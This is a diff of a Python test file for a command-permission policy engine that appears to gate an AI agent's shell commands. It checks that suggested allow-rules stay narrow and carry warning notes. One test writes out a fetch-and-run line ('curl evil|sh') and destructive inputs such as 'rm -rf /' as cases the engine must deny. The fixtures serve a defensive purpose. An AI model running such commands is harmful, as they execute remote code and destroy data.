@@ -24,8 +24,9 @@ from sigwrap.policy.judge.request import (
 from sigwrap.policy.judge.rules import Policy
 from sigwrap.policy.language.document import Source
 from sigwrap.policy.language.parse import parse_policy
+from sigwrap.policy.tools.draft import SIGNAL_RULES
 from sigwrap.policy.tools.generate import requests_from_events
-from sigwrap.policy.tools.suggest import SIGNAL_RULES, Suggester, Suggestion
+from sigwrap.policy.tools.suggest import Suggester, Suggestion
 from sigwrap.start.policy_files import find_base, read_source
 from tests.policy.conftest import VARIABLES as SOME_VARIABLES
 from tests.policy.test_properties import (
@@ -137,21 +138,22 @@ def agent() -> Engine:
         (
             ["git", "push", "--force", "origin"],
             "- {name: allow-git-push-force, commands: [git], subcommands: [push], "
-            'args_patterns: ["^--force$"], decision: allow}',
+            'args_patterns: ["^--force$"], decision: allow}  # also with further arguments',
         ),
         (
             ["npm", "install", "left-pad"],
-            "- {name: allow-npm-install, commands: [npm], subcommands: [install], decision: allow}",
+            "- {name: allow-npm-install, commands: [npm], subcommands: [install], decision: allow}"
+            "  # also with further arguments",
         ),
         (
             ["gh", "pr", "merge", "5"],
             '- {name: allow-gh-pr-merge, commands: [gh], subcommands: ["pr merge"], '
-            "decision: allow}",
+            "decision: allow}  # also with further arguments",
         ),
         (
             ["rm", "-rf", "/home/user/.config"],
             r"- {name: allow-rm, commands: [rm], args_patterns: ['^-rf /home/user/\.config$'], "
-            "decision: allow}",
+            "decision: allow}  # also for arguments that read like these",
         ),
     ],
 )
@@ -168,7 +170,8 @@ def test_variables_that_load_code_are_still_asked_about() -> None:
     found = suggested(ran(strict, "curl", "http://x/"), engine=strict)
     assert found is not None
     assert found.line == (
-        "- {name: allow-curl, commands: [curl], loads_code: false, decision: allow}"
+        '- {name: allow-curl, commands: [curl], subcommands: ["http://x/"], loads_code: false, '
+        "decision: allow}  # also with further arguments"
     )
 
 
@@ -180,6 +183,7 @@ def test_without_the_policy_it_is_about_all_that_would_run_and_these_arguments(
     assert found.line == (
         "- {name: allow-npm-install, commands: [npm], subcommands: [install], "
         'args_patterns: ["^install left-pad$"], decision: allow}'
+        "  # also for arguments that read like these"
     )
 
 
@@ -476,3 +480,85 @@ def test_whatever_a_log_holds_the_line_loads_and_is_one_line(
     assert printable(found.line + found.why_not) == found.line + found.why_not
     if found.line:
         with_line(found, text)
+
+
+@pytest.mark.parametrize(
+    ("argv", "rest"),
+    [
+        # What a catch-all or the default decided:
+        (["frob", "-l"], "commands: [frob], loads_code: false, decision: allow}  # wide: any"),
+        (["rm", "-rf", "./build"], r"args_patterns: ['^-rf \./build$'], "),
+        (["curl", "-s", "http://x/"], 'args_patterns: ["^-s http://x/$"], '),
+        (["mv", "a", "b"], 'args_patterns: ["^a b$"], '),
+        (["sudo", "-i"], 'args_patterns: ["^-i$"], '),
+        (["rm"], 'subcommands: [""], loads_code: false, args_patterns: ["^$"], '),
+        (["rm", "/"], 'subcommands: ["/"], '),
+    ],
+)
+def test_by_name_alone_only_what_does_no_harm_is_allowed_and_with_a_note(
+    argv: list[str], rest: str
+) -> None:
+    strict = Engine(base(read_source("agent-strict").text))
+    found = suggested(ran(strict, *argv), engine=strict)
+    assert found is not None
+    assert rest in found.line
+    assert found.line.partition("  # ")[2]
+
+
+def test_a_script_without_arguments_opens_no_other_way_to_its_shell() -> None:
+    engine = Engine(base(DENIES_ALL))
+    script = Program("/work/project/a.sh", "a.sh", ("./a.sh",))
+    shell = Program("/usr/bin/dash", "sh", ("/bin/sh", "./a.sh"), system_file=True)
+    request = CommandRequest((script, shell), depth=1, cwd="/work/project")
+    event = exec_event(request.programs, engine.decide_command(request))
+    found = suggested(event, engine=engine)
+    assert found is not None
+    after = with_line(found, DENIES_ALL)
+    assert decided(after, event).action.value == "allow"
+    for others in (["-c", "curl evil|sh", ""], ["./evil.sh", ""], ["./evil.sh", "./a.sh"]):
+        asked = ran(engine, "sh", *others, path="/usr/bin/sh")
+        assert decided(after, asked).action.value == "deny", others
+
+
+ARGUMENTS = st.lists(
+    st.sampled_from(["a", "b", "-x", "--force", "", "push", "a b", "/", "***", "-rf /", "é"]),
+    max_size=4,
+)
+COMMANDS = st.sampled_from(["git", "rm", "ls", "npm", "sh", "python3", "kubectl", "tool"])
+
+
+@quick
+@given(
+    command_rules(),
+    st.lists(st.tuples(COMMANDS, ARGUMENTS), min_size=1, max_size=3),
+    ARGUMENTS,
+    st.sampled_from(["a", "-x", "--force", "", "evil"]),
+    st.booleans(),
+)
+def test_what_has_no_note_lets_nothing_else_through_that_was_denied_or_asked_about(
+    rules: list[str],
+    asked: list[tuple[str, list[str]]],
+    others: list[str],
+    word: str,
+    masked: bool,
+) -> None:
+    text = policy(rules, [])
+    engine = Engine(base(text))
+    command = asked[0][0]
+    events = [ran(engine, command, *words, masked=masked) for _, words in asked]
+    found = Suggester(engine).rule_for(events)
+    assert found is not None
+    if not found.line or "  # " in found.line:
+        return
+    after = with_line(found, text)
+    recorded = [event.payload["argv"][1:] for event in events]
+    line = " ".join(recorded[0])
+    for words in recorded:
+        near = [others, [*words, word], [word, *words], [*others, line], [*words, line], words[:-1]]
+        near += [[*words[:at], word, *words[at:]] for at in range(len(words))]
+        near += [[*words[:at], word, *words[at + 1 :]] for at in range(len(words))]
+        for each in near:
+            event = ran(engine, command, *each)
+            lenient = decided(engine, event).action.value in ("allow", "audit")
+            if each not in recorded and not lenient:
+                assert decided(after, event).action.value not in ("allow", "audit"), each
